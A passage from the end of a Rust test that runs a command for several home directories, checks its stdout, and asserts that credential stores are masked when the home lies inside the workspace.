        let result = out.last().unwrap();
        let stdout = result["stdout"].as_str().unwrap_or_default();
        assert!(stdout.starts_with("ran\n"), "{}: {out:#?}", home.display());
        // The home in the workspace: its credential stores masked.
        if home == inside {
            assert!(!stdout.contains("secret"), "{}: {out:#?}", home.display());
        }
    }
}
